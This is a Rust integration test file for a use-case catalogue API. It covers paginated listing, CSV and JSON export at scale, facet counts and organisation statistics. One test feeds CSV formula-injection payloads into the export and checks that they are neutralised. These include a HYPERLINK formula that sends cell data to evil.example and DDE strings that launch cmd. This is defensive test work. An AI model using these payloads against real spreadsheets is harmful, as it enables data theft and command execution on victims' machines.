//! `/api/v1/use-cases` at scale: a seeded catalogue several export batches
//! long, listed page by page in every sort and exported as CSV and JSON,
//! every row once, with the facets agreeing.

use crate::usecases::parse_csv;
use p2p_kernel::ids::{OrgId, UseCaseId, UserId};
use p2p_tests::{Session, TestApp, unique_email};
use p2p_usecases::{Status, UseCaseDoc, UseCaseView};
use serde_json::Value;
use std::collections::BTreeSet;
use time::OffsetDateTime;

/// A seeded use case: three share each publication second (ties on the sort
/// key straddle export batches), views repeat every seven (ties on `popular`).
fn seeded(i: usize, org: OrgId, user: UserId, start: OffsetDateTime) -> UseCaseDoc {
    let at = start + time::Duration::seconds((i / 3) as i64);
    let problem = if i.is_multiple_of(10) {
        format!("Scrap \"{i}\", line {}\nsecond line", i % 7)
    } else {
        format!("Scrap {i}")
    };
    UseCaseDoc::new(UseCaseView {
        id: UseCaseId::new(),
        title: format!("Seeded {i}"),
        industry: ["Energy", "Mining", "Water"][i % 3].to_owned(),
        technology: vec!["IoT".into()],
        problem_statement: problem,
        solution: "A model".into(),
        outcomes: Default::default(),
        vendor_info: Default::default(),
        media: Vec::new(),
        location: None,
        tags: Vec::new(),
        status: Status::Published,
        submitted_by: user,
        organization_id: org,
        view_count: (i % 7) as i64,
        revision_count: 0,
        created_at: at,
        updated_at: at,
        published_at: Some(at),
        hidden: false,
    })
}

/// Every page of the list by cursor: (id, title) in order.
async fn all_pages(app: &TestApp, who: &Session, query: &str) -> Vec<(String, String)> {
    let path = format!("/api/v1/use-cases?{query}&limit=100&facets=false");
    let pages = app.all_pages(&path, who.token()).await;
    pages
        .iter()
        .flat_map(|page| page["items"].as_array().unwrap().clone())
        .map(|item| {
            (
                item["id"].as_str().unwrap().to_owned(),
                item["title"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

async fn export_text(app: &TestApp, who: &Session, query: &str) -> String {
    let resp = app
        .client
        .get(app.url(&format!("/api/v1/use-cases/export?{query}")))
        .bearer_auth(&who.access)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    resp.text().await.expect("the export is whole")
}

fn facet_total(list: &Value, facet: &str) -> u64 {
    list["facets"][facet]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["count"].as_u64().unwrap())
        .sum()
}

#[tokio::test]
async fn export_streams_every_row_past_several_batches() {
    const ROWS: usize = 2_500;
    assert!(ROWS as u64 > 4 * p2p_usecases::EXPORT_BATCH);
    let app = TestApp::spawn().await;
    let me = app.signup(&unique_email("uc-export")).await;
    let org = OrgId(me.org_id.parse().unwrap());
    let user = UserId(me.user_id.parse().unwrap());
    let day = OffsetDateTime::now_utc().date() - time::Duration::days(2);
    let start = day.midnight().assume_utc() + time::Duration::hours(1);
    let docs: Vec<UseCaseDoc> = (0..ROWS).map(|i| seeded(i, org, user, start)).collect();
    let store = app.state().services.usecases.store().clone();
    for chunk in docs.chunks(1_000) {
        store.insert_many(chunk).await.unwrap();
    }

    for (sort, query) in [
        ("latest", "format=csv"),
        ("popular", "format=csv&sort=popular"),
    ] {
        let listed = all_pages(&app, &me, &format!("sort={sort}")).await;
        assert_eq!(listed.len(), ROWS, "{sort}: every use case is listed once");
        let rows = parse_csv(&export_text(&app, &me, query).await);
        assert_eq!(rows.len(), 1 + ROWS, "{sort}: header and every row");
        let exported: Vec<(String, String)> = rows[1..]
            .iter()
            .map(|r| (r[0].clone(), r[1].clone()))
            .collect();
        assert_eq!(
            exported, listed,
            "{sort}: the CSV parsed back equals the list"
        );
    }
    let json: Value = serde_json::from_str(&export_text(&app, &me, "format=json").await).unwrap();
    let json_ids: Vec<&str> = json
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["id"].as_str().unwrap())
        .collect();
    let expected: Vec<String> = docs.iter().rev().map(|d| d.view.id.to_string()).collect();
    assert_eq!(json_ids.len(), ROWS);
    let json_set: BTreeSet<&str> = json_ids.iter().copied().collect();
    assert_eq!(json_set, expected.iter().map(String::as_str).collect());

    // Facet counts are exact, and follow a delete at once (no stale cache).
    let list = app.get("/api/v1/use-cases?limit=1", me.token()).await;
    assert_eq!(facet_total(&list.json, "industry"), ROWS as u64);
    assert_eq!(list.json["facets"]["technology"][0]["count"], ROWS);
    let mine = list.json["items"][0]["id"].as_str().unwrap().to_owned();
    app.delete(&format!("/api/v1/use-cases/{mine}"), me.token())
        .await
        .assert_status(204);
    let list = app.get("/api/v1/use-cases?limit=1", me.token()).await;
    assert_eq!(facet_total(&list.json, "industry"), ROWS as u64 - 1);
    let energy = app
        .get(
            "/api/v1/use-cases?limit=1&industry=energy&sort=popular",
            me.token(),
        )
        .await;
    assert_eq!(
        facet_total(&energy.json, "industry"),
        energy_count(ROWS, &mine, &docs)
    );

    // Organization statistics: the publications per day.
    let stats = app.get("/api/v1/organizations/stats", me.token()).await;
    stats.assert_status(200);
    let on = |date: String| {
        stats.json["activity"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["date"] == date.as_str())
            .map(|d| d["count"].as_u64().unwrap())
    };
    assert_eq!(on(day.to_string()), Some(ROWS as u64 - 1));
    assert_eq!(on((day + time::Duration::days(1)).to_string()), Some(0));
    assert_eq!(stats.json["use_cases"], ROWS - 1);
    app.stop().await;
}

fn energy_count(rows: usize, deleted: &str, docs: &[UseCaseDoc]) -> u64 {
    let energy = (0..rows).filter(|i| i.is_multiple_of(3)).count() as u64;
    let deleted_was_energy = docs
        .iter()
        .any(|d| d.view.id.to_string() == deleted && d.view.industry == "Energy");
    energy - u64::from(deleted_was_energy)
}

/// Cells that a spreadsheet would run as formulas come out as text (a leading
/// `'`), in every column; everything else, numbers included, as written.
#[tokio::test]
async fn csv_export_never_carries_a_live_formula() {
    let app = TestApp::spawn().await;
    let me = app.signup(&unique_email("csv-formula")).await;
    let formulas = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
    ];
    let mut body = crate::usecases::use_case(
        formulas[0],
        formulas[1],
        &[formulas[2]],
        &[formulas[3]],
        formulas[2],
    );
    body["problem_statement"] = Value::from(formulas[3]);
    body["solution"] = Value::from(formulas[0]);
    body["outcomes"] = serde_json::json!({"cost_savings": formulas[1], "efficiency_gain": "-15%", "roi_timeline": "=1+1"});
    body["vendor_info"] = serde_json::json!({"name": formulas[2], "contact": "@vendor"});
    body["location"]["coordinates"] = serde_json::json!([-33.86, -151.2]);
    crate::usecases::create_published(&app, &me, &body).await;

    let rows = parse_csv(&export_text(&app, &me, "format=csv").await);
    assert_eq!(rows.len(), 2);
    let row = &rows[1];
    for (i, cell) in row.iter().enumerate() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
            "column {} is a live formula: {cell:?}",
            rows[0][i]
        );
    }
    let column = |name: &str| row[rows[0].iter().position(|h| h == name).unwrap()].clone();
    assert_eq!(column("title"), format!("'{}", formulas[0]));
    assert_eq!(column("industry"), format!("'{}", formulas[1]));
    assert_eq!(column("technology"), format!("'{}", formulas[2]));
    assert_eq!(column("efficiency_gain"), "'-15%");
    assert_eq!(column("vendor_contact"), "'@vendor");
    assert_eq!(column("latitude"), "-33.86", "numbers stay numbers");
    assert_eq!(column("longitude"), "-151.2");
    app.stop().await;
}
